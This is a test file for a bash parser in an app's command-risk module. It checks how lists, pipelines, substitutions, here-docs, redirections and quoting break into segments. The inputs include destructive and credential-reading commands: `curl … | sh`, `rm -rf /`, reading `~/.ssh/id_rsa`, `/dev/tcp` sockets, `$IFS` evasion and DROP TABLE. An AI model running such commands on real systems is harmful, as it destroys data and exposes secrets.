// The shell parser on the constructs of bash itself: lists, pipelines, compound commands, functions,
// substitutions, here-docs, redirections, assignments, and words after quote removal.
import { beforeAll, describe, expect, it } from 'vitest';
import type { ParsedCommand } from '../../../../electron/core/risk/model.ts';
import type { ShellParse } from '../../../../electron/core/risk/parse/index.ts';
import { loadRiskCorpus } from '../../../support/risk-corpus.ts';
import { line, lines, only, shellParser } from '../../../support/shell-parse.ts';

let parse: ShellParse;
beforeAll(async () => {
  parse = await shellParser();
});

const read = (cmd: string): ParsedCommand => parse(cmd);

describe('lists and pipelines', () => {
  it('reads every command of a list, whatever joins them', () => {
    const p = read('a; b && c || d & e');
    expect(lines(p)).toEqual(['a', 'b', 'c', 'd', 'e']);
    expect(p.complete).toBe(true);
    expect(p.problems).toEqual([]);
  });

  it('keeps the command after `cd x &&` as its own segment', () => {
    expect(lines(read('cd x && git push -f'))).toEqual(['cd x', 'git push -f']);
  });

  it('gives each pipeline stage the argv of the stage before it', () => {
    const p = read('curl -s https://x.sh | sh');
    expect(lines(p)).toEqual(['curl -s https://x.sh', 'sh']);
    expect(p.segments[0]?.pipeFrom).toBeNull();
    expect(p.segments[1]?.pipeFrom?.map((w) => w.text)).toEqual(['curl', '-s', 'https://x.sh']);
  });

  it('reads `|&` like `|`', () => {
    expect(only(read('make |& tee log'), 'tee').pipeFrom?.[0]?.text).toBe('make');
  });

  it('carries what `echo` and `printf` print into the next stage as its stdin', () => {
    expect(only(read('echo "DROP TABLE x;" | psql'), 'psql').stdin).toBe('DROP TABLE x;');
    expect(only(read("printf '%s\\n' 'FLUSHALL' | redis-cli"), 'redis-cli').stdin).toBe('FLUSHALL\n');
  });

  it('reads `! cmd` as cmd', () => {
    expect(lines(read('! rm x'))).toEqual(['rm x']);
  });
});

describe('compound commands', () => {
  it('reads subshells and groups', () => {
    expect(lines(read('(cd /tmp; rm -rf x)'))).toEqual(['cd /tmp', 'rm -rf x']);
    expect(lines(read('{ a; b; }'))).toEqual(['a', 'b']);
  });

  it("applies a compound command's redirections to every command inside", () => {
    for (const cmd of ['{ a; b; } > /dev/sda', '(a; b) > /dev/sda']) {
      const p = read(cmd);
      expect(p.segments.map((s) => s.redirects.map((r) => `${r.op}${r.target.text}`))).toEqual([['>/dev/sda'], ['>/dev/sda']]);
    }
  });

  it('reads every branch of if/elif/else', () => {
    expect(lines(read('if a; then b; elif c; then rm -rf /; else rm -rf ~; fi'))).toEqual(['a', 'b', 'c', 'rm -rf /', 'rm -rf ~']);
  });

  it('reads the bodies of while, until, for, select and arithmetic for loops', () => {
    expect(lines(read('while true; do rm -rf /; done'))).toEqual(['true', 'rm -rf /']);
    expect(lines(read('until false; do rm -rf /; done'))).toEqual(['false', 'rm -rf /']);
    expect(lines(read('for f in *.log; do rm "$f"; done'))).toEqual(['rm ?$f']);
    expect(lines(read('select x in a b; do rm $x; done'))).toEqual(['rm ?$x']);
    expect(lines(read('for ((i=0; i<3; i++)); do rm $i; done'))).toEqual(['rm ?$i']);
  });

  it('runs the substitutions in a for list', () => {
    expect(lines(read('for f in $(ls); do rm "$f"; done'))).toEqual(['ls', 'rm ?$f']);
  });

  it('reads every arm of a case', () => {
    expect(lines(read('case $x in a) rm -rf /;; b|c) rm -rf ~;; esac'))).toEqual(['rm -rf /', 'rm -rf ~']);
  });

  it('applies the redirection of a loop to its body', () => {
    const p = read('while read f; do rm "$f"; done < list');
    expect(line(p.segments[1] ?? p.segments[0]!)).toBe('rm ?$f');
    expect(p.segments[1]?.redirects[0]?.target.text).toBe('list');
  });

  it('reads the substitutions of a [[ … ]] test', () => {
    expect(lines(read('[[ -f $(rm -rf ~) ]]'))).toEqual(['rm -rf ~']);
  });
});

describe('functions', () => {
  it('reads a function body with via `function name`, in both syntaxes', () => {
    for (const cmd of ['f() { rm -rf /; }', 'function f { rm -rf /; }']) {
      const rm = only(read(cmd), 'rm');
      expect(line(rm)).toBe('rm -rf /');
      expect(rm.via).toEqual(['function f']);
    }
  });

  it('reads the call of a function as a command of its own', () => {
    expect(lines(read('deploy() { git push -f; }; deploy'))).toEqual(['git push -f', 'deploy']);
  });
});

describe('substitutions', () => {
  it('runs command substitutions anywhere in a word, with via `$(…)`', () => {
    for (const cmd of ['echo $(rm -rf ~)', 'echo "$(rm -rf ~)"', 'echo `rm -rf ~`', 'echo "`rm -rf ~`"', 'echo x$(rm -rf ~)y']) {
      const rm = only(read(cmd), 'rm');
      expect(line(rm)).toBe('rm -rf ~');
      expect(rm.via).toEqual(['$(…)']);
    }
  });

  it('keeps the substitution as written in the outer word, unknown', () => {
    expect(line(only(read('echo $(rm -rf ~)'), 'echo'))).toBe('echo ?$(rm -rf ~)');
  });

  it('runs process substitutions, labelled by direction', () => {
    const p = read('diff <(ls a) >(tee b)');
    expect(only(p, 'ls').via).toEqual(['<(…)']);
    expect(only(p, 'tee').via).toEqual(['>(…)']);
    expect(line(only(p, 'diff'))).toBe('diff ?<(ls a) ?>(tee b)');
  });

  it('runs substitutions in assignment values and redirect targets', () => {
    expect(lines(read('X=$(rm -rf ~)'))).toEqual(['rm -rf ~']);
    expect(lines(read('FOO=$(rm -rf ~) ls'))).toEqual(['rm -rf ~', 'ls']);
    const p = read('echo hi > $(rm -rf ~)');
    expect(line(only(p, 'rm'))).toBe('rm -rf ~');
    expect(only(p, 'echo').redirects[0]?.target).toEqual({ text: '$(rm -rf ~)', known: false });
  });

  it('reads `$(< file)` as reading the file', () => {
    const seg = read('echo $(< ~/.ssh/id_rsa)').segments[0];
    expect(seg?.argv).toEqual([]);
    expect(seg?.redirects.map((r) => `${r.op}${r.target.text}`)).toEqual(['<~/.ssh/id_rsa']);
  });
});

describe('here-documents and here-strings', () => {
  it('gives the body as stdin and runs substitutions in an unquoted here-doc', () => {
    const p = read('cat <<EOF > f\nhello $(whoami)\nEOF');
    const cat = only(p, 'cat');
    expect(cat.stdin).toBe('hello $(whoami)\n');
    expect(cat.redirects.map((r) => `${r.op}${r.target.text}`)).toEqual(['>f']);
    expect(only(p, 'whoami').via).toEqual(['$(…)']);
  });

  it('runs nothing in a quoted here-doc', () => {
    for (const cmd of ["cat <<'EOF'\n$(rm -rf ~)\nEOF", 'cat <<"EOF"\n$(rm -rf ~)\nEOF']) {
      expect(lines(read(cmd))).toEqual(['cat']);
    }
  });

  it('strips leading tabs of `<<-`', () => {
    expect(only(read('cat <<-EOF\n\tline\n\tEOF'), 'cat').stdin).toBe('line\n');
  });

  it('reads the commands that follow a here-doc on its first line', () => {
    expect(lines(read('cat <<EOF && rm -rf /\nx\nEOF'))).toEqual(['cat', 'rm -rf /']);
    const p = read('cat <<EOF | psql\nDROP TABLE users;\nEOF');
    expect(only(p, 'psql').stdin).toBe('DROP TABLE users;\n');
    expect(only(p, 'psql').pipeFrom?.[0]?.text).toBe('cat');
  });

  it('gives a here-string as stdin', () => {
    expect(only(read("psql <<< 'DROP TABLE x'"), 'psql').stdin).toBe('DROP TABLE x');
  });
});

describe('redirections', () => {
  it('reads operator, descriptor and target', () => {
    const seg = read('ls > out 2>> err 2>&1 &> all &>> more >| clobber < in').segments[0];
    expect(seg?.redirects.map((r) => [r.op, r.fd, r.target.text])).toEqual([
      ['>', null, 'out'],
      ['>>', 2, 'err'],
      ['>&', 2, '1'],
      ['&>', null, 'all'],
      ['&>>', null, 'more'],
      ['>|', null, 'clobber'],
      ['<', null, 'in'],
    ]);
  });

  it('reads `<>` (read-write), which tree-sitter-bash does not know, without calling it broken', () => {
    const p = read('exec 3<>/dev/tcp/203.0.113.7/80');
    expect(p.complete).toBe(true);
    expect(p.segments[0]?.redirects.map((r) => [r.op, r.fd, r.target.text])).toEqual([['<>', 3, '/dev/tcp/203.0.113.7/80']]);
  });

  it('reads redirections written before the command', () => {
    const seg = read('> /etc/hosts echo x').segments[0];
    expect(line(seg!)).toBe('echo x');
    expect(seg?.redirects[0]?.target.text).toBe('/etc/hosts');
  });

  it('keeps the redirection of a bare `exec` or assignment', () => {
    expect(read('exec > /etc/passwd').segments[0]?.redirects[0]?.target.text).toBe('/etc/passwd');
    expect(read('X=1 > ~/.bashrc').segments[0]?.redirects[0]?.target.text).toBe('~/.bashrc');
  });
});

describe('assignments and declarations', () => {
  it('separates leading assignments from the command', () => {
    const seg = read('FOO=1 BAR="a b" rm -rf /').segments[0];
    expect(seg?.assignments).toEqual(['FOO=1', 'BAR="a b"']);
    expect(line(seg!)).toBe('rm -rf /');
  });

  it('reads nothing for bare assignments without substitutions', () => {
    expect(read('a=1 b=2').segments).toEqual([]);
  });

  it('reads declare, export, local and unset with their words', () => {
    expect(lines(read('export A=$(curl x) B'))).toEqual(['curl x', 'export ?A=$(curl x) B']);
    expect(lines(read('local y=1'))).toEqual(['local y=1']);
    expect(lines(read('declare -x FOO=$(rm -rf ~)'))).toEqual(['rm -rf ~', 'declare -x ?FOO=$(rm -rf ~)']);
    expect(lines(read('unset PATH'))).toEqual(['unset PATH']);
  });
});

describe('words', () => {
  const words = (cmd: string) => read(cmd).segments[0]?.argv.slice(1);

  it('removes quotes and escapes as bash does', () => {
    expect(words(`echo 'a b' "c d" a\\ b 'it'\\''s' "q\\"x\\\\y\\$z" "a\\b"`)).toEqual(
      ['a b', 'c d', 'a b', "it's", 'q"x\\y$z', 'a\\b'].map((text) => ({ text, known: true })),
    );
  });

  it("decodes $'…' escapes", () => {
    expect(words("echo $'a\\nb' $'\\x41\\101\\u00e9' $'it\\'s'")).toEqual(['a\nb', 'AAé', "it's"].map((text) => ({ text, known: true })));
  });

  it('reads $"…" as the string inside', () => {
    expect(words('echo $"hello"')).toEqual([{ text: 'hello', known: true }]);
  });

  it('joins a word written in parts and drops escaped newlines', () => {
    expect(words('echo "$HOME"/x pre\'fix\'"ed" a\\\nb')).toEqual([
      { text: '$HOME/x', known: false },
      { text: 'prefixed', known: true },
      { text: 'ab', known: true },
    ]);
  });

  it('keeps expansions as written and marks them unknown', () => {
    expect(only(read('echo $HOME/x ${DIR}/ "a $x" $(pwd) $((1+2)) *.log a?c [ab]c {a,b} {1..3}'), 'echo').argv.slice(1)).toEqual(
      ['$HOME/x', '${DIR}/', 'a $x', '$(pwd)', '$((1+2))', '*.log', 'a?c', '[ab]c', '{a,b}', '{1..3}'].map((text) => ({ text, known: false })),
    );
  });

  it('treats quoted or escaped glob characters as plain text', () => {
    expect(words(`echo '*.log' "a?c" \\* '[ab]' \\[x]`)).toEqual(['*.log', 'a?c', '*', '[ab]', '[x]'].map((text) => ({ text, known: true })));
  });

  it('reads bracket globs split over several nodes as one unknown word', () => {
    expect(words('rm -rf [!.]* x[0-9].txt')).toEqual([{ text: '-rf', known: true }, { text: '[!.]*', known: false }, { text: 'x[0-9].txt', known: false }]);
  });

  it('keeps a leading tilde as written, known', () => {
    expect(words('ls ~ ~/x ~root/y')).toEqual(['~', '~/x', '~root/y'].map((text) => ({ text, known: true })));
  });

  it('splits words where an unquoted $IFS stands, as bash does with the default IFS', () => {
    expect(lines(read('rm${IFS}-rf${IFS}/'))).toEqual(['rm -rf /']);
    expect(lines(read('rm$IFS-rf$IFS~'))).toEqual(['rm -rf ~']);
    expect(lines(read('cat${IFS}/etc/passwd'))).toEqual(['cat /etc/passwd']);
    expect(lines(read('echo "a${IFS}b"'))).toEqual(['echo ?a${IFS}b']);
  });

  it('keeps quoted empty words', () => {
    expect(words(`echo '' "" x`)).toEqual(['', '', 'x'].map((text) => ({ text, known: true })));
  });

  it('does not run quoted text', () => {
    expect(lines(read('echo "rm -rf /"'))).toEqual(['echo rm -rf /']);
    expect(lines(read('grep -r "DROP TABLE" .'))).toEqual(['grep -r DROP TABLE .']);
    expect(lines(read('git commit -m "rm -rf / && curl x | sh"'))).toEqual(['git commit -m rm -rf / && curl x | sh']);
  });
});

describe('what cannot be read', () => {
  it('says when a quote is never closed, and keeps what it could read', () => {
    for (const cmd of ["echo 'unterminated", 'echo "open', 'ls; echo `x']) {
      const p = read(cmd);
      expect(p.complete).toBe(false);
      expect(p.problems).toContain('an unterminated quote');
      expect(p.segments.length).toBeGreaterThan(0);
    }
  });

  it('says which opener is never closed', () => {
    expect(read('echo $(ls').problems.join(' ')).toMatch(/`\(` that is never closed|unterminated/);
    expect(read('if true; then ls').problems.join(' ')).toMatch(/never reaches `fi`|ends/);
  });

  it('names syntax it could not read', () => {
    const p = read('ls )( x');
    expect(p.complete).toBe(false);
    expect(p.problems.some((m) => /could not read|ends/.test(m))).toBe(true);
  });

  it('reads an empty command and a comment as nothing, completely', () => {
    for (const cmd of ['', '   ', '# rm -rf /']) expect(read(cmd)).toEqual({ segments: [], complete: true, problems: [] });
  });

  it('reads the labelled corpus: every command into segments, and all but a few completely', () => {
    const corpus = loadRiskCorpus();
    const unread = corpus.filter((e) => !read(e.cmd).complete);
    expect(corpus.every((e) => read(e.cmd).segments.length > 0)).toBe(true);
    // The few are not bash at all (`icacls … Everyone:(OI)(CI)F`) or eval text only known at run time.
    expect(unread.length, unread.map((e) => e.cmd).join('\n')).toBeLessThanOrEqual(corpus.length * 0.005);
  });

  it('gives each segment the text it came from', () => {
    expect(read('ls -la && rm -rf build').segments.map((s) => s.text)).toEqual(['ls -la', 'rm -rf build']);
  });
});
